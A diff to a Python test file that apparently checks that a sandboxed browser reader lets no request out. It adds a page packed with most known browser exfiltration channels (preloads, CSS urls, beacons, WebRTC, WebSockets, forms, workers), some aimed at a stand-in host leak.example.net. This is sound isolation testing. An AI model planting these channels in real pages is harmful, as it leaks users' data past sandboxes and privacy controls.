@@ -116,7 +116,12 @@ class Canary:
             def log_message(self, *_: object) -> None:
                 pass
 
-        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        class Server(http.server.ThreadingHTTPServer):
+            def verify_request(self, *_: object) -> bool:
+                seen.append("connection")
+                return True
+
+        self.server = Server(("127.0.0.1", 0), Handler)
         self.port = self.server.server_port
         threading.Thread(target=self.server.serve_forever, daemon=True).start()
         self.datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
@@ -206,6 +211,86 @@ def test_a_page_in_a_browser_reaches_nothing_but_through_the_policy(
         canary.datagrams.recv(100)
     assert set(upstream.names.lookups) <= {"example.org", "localhost"} - {"localhost"}
     assert {seen.method for seen in upstream.seen} == {"GET"}
+
+
+#: What a page declares, each a request to a place; PLACE is replaced.
+DECLARED = """<meta http-equiv=refresh content="0;url=PLACE/refresh">
+<link rel=preload as=script href=PLACE/preload-script><link rel=preload as=font crossorigin href=PLACE/preload-font>
+<link rel=preload as=fetch crossorigin href=PLACE/preload-fetch><link rel=modulepreload href=PLACE/modulepreload>
+<link rel=prefetch href=PLACE/prefetch><link rel=prerender href=PLACE/prerender>
+<link rel=preconnect href=PLACE><link rel=dns-prefetch href=//leak.example.net><link rel=preconnect href=//leak.example.net>
+<link rel=stylesheet href=PLACE/sheet><link rel=icon href=PLACE/icon><link rel=manifest href=PLACE/manifest>
+<script type=speculationrules>{"prefetch": [{"source": "list", "urls": ["PLACE/rules"]}],
+"prerender": [{"source": "list", "urls": ["PLACE/rules-prerender"]}]}</script>
+<style>@import url(PLACE/import); @import "PLACE/import-text";
+@font-face {font-family: walls; src: url(PLACE/font)} p {font-family: walls; background: url(PLACE/background);
+cursor: url(PLACE/cursor), auto; list-style-image: url(PLACE/list)} p::after {content: url(PLACE/content)}</style>
+<img src=PLACE/image srcset="PLACE/srcset 2x"><picture><source srcset=PLACE/picture><img></picture>
+<video poster=PLACE/poster src=PLACE/video autoplay><track default src=PLACE/track></video><audio src=PLACE/audio autoplay></audio>
+<object data=PLACE/object></object><embed src=PLACE/embed><input type=image src=PLACE/input>
+<svg><image href=PLACE/svg-image /><use href=PLACE/use#a /></svg><iframe src=PLACE/frame></iframe><iframe src=/frame></iframe>
+<a id=ping ping=PLACE/ping href=#root></a><a id=download download href=PLACE/download></a>
+<a id=opened target=_blank href=PLACE/anchor></a>
+<form class=f action=PLACE/post method=post><input name=a value=b></form>
+<form class=f action=PLACE/get><input name=a value=b></form>
+<form class=f action=PLACE/post-blank method=post target=_blank><input name=a value=b></form>
+<form class=f action=PLACE/get-blank target=_blank><input name=a value=b></form>
+<form class=f action=PLACE/plain method=post enctype=text/plain target=named><input name=a value=b></form>
+<form class=f action=https://leak.example.net/post method=post><input name=a value=b></form>
+<form class=f action=https://leak.example.net/blank method=post target=_blank><input name=a value=b></form>
+<script src=/app.js></script>"""
+#: What its scripts try, each on its own.
+TRIED = """new EventSource("PLACE/events")
+navigator.sendBeacon("PLACE/beacon", "x")
+fetch("PLACE/keepalive", {method: "POST", mode: "no-cors", keepalive: true, body: "x"}).catch(() => 0)
+fetch("PLACE/no-cors", {mode: "no-cors"}).catch(() => 0)
+{ const one = new XMLHttpRequest(); one.open("POST", "PLACE/sync", false); one.send("x") }
+new WebSocket("SOCKET/socket")
+new WebSocketStream("SOCKET/stream").opened.catch(() => 0)
+{ const peer = new RTCPeerConnection({iceServers: [{urls: "stun:HOST:UDP"}, {urls: ["turn:HOST:PORT?transport=tcp", "turn:HOST:UDP"], username: "a", credential: "b"}]}); peer.createDataChannel("x"); peer.createOffer().then(one => peer.setLocalDescription(one)) }
+new WebTransport("https://HOST:UDP/").ready.catch(() => 0)
+navigator.serviceWorker.register("/worker.js").catch(() => 0)
+navigator.serviceWorker.register("PLACE/worker.js").catch(() => 0)
+new Worker(URL.createObjectURL(new Blob(["importScripts('PLACE/imported')"])))
+new SharedWorker(URL.createObjectURL(new Blob(["fetch('PLACE/shared')"])))
+import("PLACE/module").catch(() => 0)
+new FontFace("other", "url(PLACE/face)").load().catch(() => 0)
+new Audio("PLACE/sound").play().catch(() => 0)
+CSS.paintWorklet.addModule("PLACE/worklet").catch(() => 0)
+new PaymentRequest([{supportedMethods: "PLACE/pay"}], {total: {label: "x", amount: {currency: "EUR", value: "1"}}}).canMakePayment().catch(() => 0)
+window.open("PLACE/window")
+window.open("PLACE/window-opener", "_blank", "noopener")
+document.getElementById("ping").click()
+document.getElementById("download").click()
+document.getElementById("opened").click()
+for (const one of document.querySelectorAll(".f")) one.submit()
+document.body.append(Object.assign(document.createElement("iframe"), {srcdoc: "<form action=PLACE/inner method=post target=_top></form><script>document.forms[0].submit()<\\/script>"}))
+location.assign("PLACE/assign")"""
+
+
+def test_a_page_with_every_way_out_reaches_nothing_and_is_read(
+    web: Web, upstream: Upstream, canary: Canary
+) -> None:
+    def aimed(text: str) -> str:
+        place = f"http://127.0.0.1:{canary.port}"
+        text = text.replace("PLACE", place).replace("SOCKET", place.replace("http", "ws"))
+        text = text.replace("HOST", "127.0.0.1").replace("PORT", str(canary.port))
+        return text.replace("UDP", str(canary.udp))
+
+    tries = "".join(f"try {{ {one} }} catch (fault) {{}}\n" for one in TRIED.splitlines())
+    serve_app(upstream, SCRIPT + aimed(tries), aimed(DECLARED))
+    policy = aimed("img-src 'none'; report-uri PLACE/report")
+    headers = [("Content-Type", "text/html"), ("Content-Security-Policy", policy)]
+    upstream.on("/frame", Reply(200, headers, b"<img src=/picture.png>"))
+    told = web.read(URL)
+    assert WORDS.strip() in told["text"]
+    assert told["in_browser"] is True
+    assert canary.seen == []
+    with pytest.raises(BlockingIOError):
+        canary.datagrams.recv(100)
+    assert set(upstream.names.lookups) <= {"example.org"}
+    assert {(seen.method, seen.host) for seen in upstream.seen} == {("GET", "example.org")}
+    assert "/app.js" in [seen.path for seen in upstream.seen]
 
 
 def test_a_page_that_leads_a_browser_away_is_not_followed_inside(
